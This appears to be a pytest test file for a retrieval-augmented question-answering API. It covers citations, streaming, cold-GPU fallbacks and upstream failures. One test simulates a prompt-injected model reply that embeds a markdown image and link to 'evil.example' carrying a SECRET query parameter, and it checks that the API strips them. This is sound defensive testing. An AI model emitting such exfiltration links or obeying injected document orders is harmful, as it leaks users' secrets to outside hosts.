"""Answers by a model, over the real API: cold, slow, lying and broken ones too (a fake GPU that misbehaves on request)."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient

from functions.query import answering
from functions.query.app import create_app
from shared.core.errors import ConfigurationError
from tests.fakes.gpu_server import FakeGpu
from tests.support.api import serving
from tests.support.installation import Installation
from tests.support.waiting import until

TEXT = "The harbour crane lifts forty tonnes. It was built in 1958 by the Nordhaven works."
QUESTION = "How much does the harbour crane lift?"
REPLY = "The harbour crane lifts forty tonnes [1]."


@pytest.fixture
def gpu() -> Iterator[FakeGpu]:
    with FakeGpu() as server:
        server.reply(REPLY)
        yield server


@pytest.fixture(scope="module")
def filled(shared_installation: Installation) -> Installation:
    return fill(shared_installation)


@pytest.fixture
def own(installation: Installation) -> Installation:
    """For tests that change what is in it."""
    return fill(installation)


def fill(installation: Installation) -> Installation:
    installation.put("crane.txt", TEXT)
    installation.deliver()
    return installation


def settings(gpu: FakeGpu, **more: Any) -> dict[str, Any]:
    """The same question is asked again and again here, so no answer is found by its meaning."""
    model = {"generator_url": gpu.url, "generator_api_key": gpu.key, "generator_model": gpu.model}
    return model | {"semantic_similarity": 1.01} | more


@pytest.fixture
def make_api(filled: Installation, gpu: FakeGpu) -> Iterator[Callable[..., httpx.Client]]:
    """The API in a real server of its own, so that streams stream and disconnects disconnect."""
    opened = []

    def make(of: Installation = filled, **more: Any) -> httpx.Client:
        context = serving(create_app(of.query_settings(**settings(gpu, **more)), of.embedder))
        url = context.__enter__()
        client = httpx.Client(base_url=url, headers={"Authorization": f"Bearer {of.api_key}"}, timeout=60)
        opened.append((context, client))
        return client

    yield make
    for context, client in opened:
        client.close()
        context.__exit__(None, None, None)


@pytest.fixture
def api(make_api: Callable[..., httpx.Client]) -> httpx.Client:
    return make_api()


def ask(api: httpx.Client, **more: Any) -> dict[str, Any]:
    answer = api.post("/v1/query", json={"question": QUESTION, **more})
    assert answer.status_code == 200, answer.text
    return answer.json()


def stream(api: httpx.Client, **more: Any) -> Iterator[tuple[str, dict[str, Any], float]]:
    """(event, data, seconds since the request)."""
    started, name = time.monotonic(), "comment"
    with api.stream("POST", "/v1/query", json={"question": QUESTION, "stream": True, **more}) as answer:
        assert answer.status_code == 200
        for line in answer.iter_lines():
            if line.startswith("event: "):
                name = line.removeprefix("event: ")
            elif line.startswith("data: "):
                yield name, json.loads(line.removeprefix("data: ")), time.monotonic() - started
            elif line.startswith(":"):
                yield "comment", {}, time.monotonic() - started


def test_a_written_answer_cites_what_it_was_given(api: httpx.Client, gpu: FakeGpu) -> None:
    answer = ask(api)
    assert answer["mode"] == "model"
    assert answer["answer"] == REPLY
    assert answer["supported"]
    assert answer["citations"][0]["quote"] == "The harbour crane lifts forty tonnes."
    assert answer["usage"]["completion_tokens"] > 0


def test_the_same_answer_can_be_fetched_again(api: httpx.Client) -> None:
    answer = ask(api)
    assert api.get(f"/v1/answers/{answer['id']}").json() == answer


def test_a_kept_answer_is_gone_once_its_document_changed(
    make_api: Callable[..., httpx.Client], own: Installation
) -> None:
    api = make_api(own)
    answer = ask(api)
    own.put("crane.txt", "The harbour crane was scrapped.")
    own.deliver()
    gone = api.get(f"/v1/answers/{answer['id']}")
    assert gone.status_code == 410
    assert "forty" not in gone.text


def test_a_stream_tells_its_sources_before_the_model_has_spoken(api: httpx.Client, gpu: FakeGpu) -> None:
    gpu.slow(0.1)
    names = [name for name, _, _ in stream(api)]
    assert names.index("sources") < names.index("token") < names.index("citations") < names.index("done")
    assert names[0] == "status"
    assert names[-1] == "done"


def test_the_tokens_of_a_stream_are_the_answer(api: httpx.Client) -> None:
    events = list(stream(api))
    done = events[-1][1]
    assert "".join(data["text"] for name, data, _ in events if name == "token") == done["answer"] == REPLY


@pytest.mark.parametrize(
    "reply", ["The crane lifts forty tonnes [7].", "It lifts four thousand elephants, they say."]
)
def test_an_answer_without_a_citation_that_holds_says_so(api: httpx.Client, gpu: FakeGpu, reply: str) -> None:
    gpu.reply(reply)
    answer = ask(api)
    assert not answer["supported"]
    assert answer["citations"] == []
    assert answering.UNSUPPORTED in answer["answer"]


def test_23_24_what_a_document_orders_is_not_done(api: httpx.Client, gpu: FakeGpu) -> None:
    """The worst case: the model obeys. Links and images do not get out, and a canary is not in any header of ours."""
    gpu.reply(
        "![x](https://evil.example/?q=SECRET) Forty tonnes, the harbour crane lifts [1]. https://evil.example/"
    )
    assert "evil.example" not in json.dumps(ask(api)["answer"])


def test_f8_cold_the_sources_come_at_once_and_quotes_within_a_second(api: httpx.Client, gpu: FakeGpu) -> None:
    """Whoever waited for the model would wait for a minute."""
    ask(api)
    gpu.cold_for(60)

    def late(events: list[Any]) -> bool:
        at = {name: seconds for name, _, seconds in reversed(events)}
        return at["sources"] >= 1 or events[-1][2] >= 3

    tries = (list(stream(api, on_cold="extractive")) for _ in range(5))
    events = next(events for events in tries if not late(events))
    states = [data["state"] if name == "status" else name for name, data, _ in events]
    assert states.index("sources") < states.index("generating"), "before the model is waited for"
    assert events[-1][0] == "done"
    assert events[-1][1]["mode"] == "extractive"
    assert "forty" in events[-1][1]["answer"]
    assert "waking" in events[-1][1]["warnings"][0]


def test_f8_cold_waiting_succeeds_when_it_wakes_and_says_how_long(api: httpx.Client, gpu: FakeGpu) -> None:
    def woken_when_waited_for() -> Iterator[tuple[str, dict[str, Any]]]:
        gpu.cold_for(60)
        for name, data, _ in stream(api, on_cold="wait"):
            if data.get("waited_s", 0.0) > 1.5:  # less is no wake-up to learn from
                gpu.heal()
            yield name, data

    *events, (_, done) = woken_when_waited_for()
    assert any(data.get("state") == "waking_gpu" for name, data in events if name == "status")
    assert done["mode"] == "model"
    later = [data for name, data in woken_when_waited_for() if name == "status"]
    assert any(data.get("eta_s") is not None for data in later), "the ETA comes from the wake-up before"


def test_f8_cold_another_model_answers(make_api: Callable[..., httpx.Client], gpu: FakeGpu) -> None:
    with FakeGpu() as other:
        other.reply(REPLY)
        api = make_api(fallback_url=other.url, fallback_api_key=other.key, fallback_model=other.model)
        gpu.cold_for(30)
        answer = ask(api, on_cold="fallback")
    assert answer["mode"] == "fallback"
    assert answer["supported"]


@pytest.mark.parametrize("how", ["silent", "cold"])
def test_f8_never_a_timeout_the_answer_comes_later(api: httpx.Client, gpu: FakeGpu, how: str) -> None:
    gpu.silent() if how == "silent" else gpu.cold_for(60)
    pending = api.post("/v1/query", json={"question": QUESTION, "deadline_ms": 500})
    assert pending.status_code == 202
    url = pending.json()["status_url"]
    assert api.get(url).status_code == 202
    if how == "cold":
        gpu.heal()
        until(lambda: api.get(url).status_code != 202)
        assert api.get(url).json()["answer"] == REPLY


def test_an_answer_nobody_writes_any_more_is_resumed_by_whoever_asks(
    api: httpx.Client, gpu: FakeGpu, filled: Installation
) -> None:
    gpu.slow(600)
    events = stream(api)
    id = next(data["id"] for name, data, _ in events if name == "sources")
    next(events)
    events.close()  # type: ignore[attr-defined]
    gpu.heal()
    until(lambda: api.get(f"/v1/answers/{id}").status_code != 202)
    assert api.get(f"/v1/answers/{id}").json()["answer"] == REPLY


@pytest.mark.parametrize("how", ["html", "garbage", "cut"])
def test_garbage_before_the_first_word_gives_quotes_and_says_so(
    api: httpx.Client, gpu: FakeGpu, how: str
) -> None:
    {"html": gpu.html, "garbage": gpu.garbage, "cut": lambda: gpu.cut_after(0)}[how]()
    answer = ask(api, deadline_ms=20_000)
    assert answer["mode"] == "extractive"
    assert "forty" in answer["answer"]
    assert answer["warnings"]


def test_an_engine_that_dies_in_mid_sentence_is_the_last_event(api: httpx.Client, gpu: FakeGpu) -> None:
    gpu.reply("The harbour crane lifts forty tonnes and more words follow here [1].")
    gpu.cut_after(4)
    events = list(stream(api))
    assert events[-1][0] == "error"
    assert events[-1][1]["type"].endswith("bad-upstream")
    assert "Traceback" not in json.dumps(events[-1][1])


def test_without_passages_no_model_is_asked(
    make_api: Callable[..., httpx.Client], gpu: FakeGpu, own: Installation
) -> None:
    api = make_api(own)
    own.delete("crane.txt")
    own.deliver()
    before = len([r for r in gpu.requests if "completions" in r.path])
    answer = ask(api)
    assert not answer["supported"]
    assert len([r for r in gpu.requests if "completions" in r.path]) == before


@pytest.mark.parametrize(
    ("wrong", "setting"),
    [
        ({"generator_url": "http://127.0.0.1:9"}, "RAGZERO_GENERATOR_URL"),
        ({"generator_api_key": "wrong-key-wrong-key"}, "RAGZERO_GENERATOR_API_KEY"),
        ({"generator_model": "no-such-model"}, "RAGZERO_GENERATOR_MODEL"),
    ],
)
def test_a_wrong_address_key_or_model_is_refused_at_start(
    filled: Installation, gpu: FakeGpu, wrong: dict[str, Any], setting: str
) -> None:
    app = create_app(filled.query_settings(**settings(gpu) | wrong), filled.embedder)
    with pytest.raises(ConfigurationError, match=setting), TestClient(app):
        pass


def test_heartbeats_while_nothing_is_said(
    api: httpx.Client, gpu: FakeGpu, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("functions.query.streaming._HEARTBEAT_S", 0.2)
    gpu.slow(0.7)
    gpu.reply("The harbour crane lifts.")
    assert [name for name, _, _ in stream(api)].count("comment") >= 3
